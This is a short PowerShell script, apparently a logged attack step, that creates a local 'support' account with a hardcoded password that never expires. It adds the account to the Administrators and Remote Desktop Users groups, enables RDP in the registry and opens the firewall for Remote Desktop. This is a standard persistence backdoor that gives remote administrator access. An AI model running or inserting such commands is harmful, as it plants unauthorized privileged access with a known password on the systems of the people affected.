# run 9114 v0
$pw = ConvertTo-SecureString 'Adm1n!strat0r' -AsPlainText -Force
New-LocalUser -Name 'support' -Password $pw -PasswordNeverExpires -AccountNeverExpires
Add-LocalGroupMember -Group 'Administrators' -Member 'support'
Add-LocalGroupMember -Group 'Remote Desktop Users' -Member 'support'
Set-ItemProperty -Path 'HKLM:\System\CurrentControlSet\Control\Terminal Server' -Name fDenyTSConnections -Value 0
Enable-NetFirewallRule -DisplayGroup 'Remote Desktop'
